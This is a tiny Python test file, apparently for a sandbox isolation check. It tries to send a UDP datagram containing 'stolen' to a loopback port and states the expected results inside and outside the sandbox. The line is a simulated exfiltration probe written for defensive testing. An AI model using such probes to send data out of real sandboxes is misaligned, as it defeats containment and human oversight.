# attack: send a datagram to the host's loopback
# outside: succeeds
# inside: may succeed
import os, socket
print("tried", flush=True)
socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b"stolen", ("127.0.0.1", int(os.environ["UDP_PORT"])))
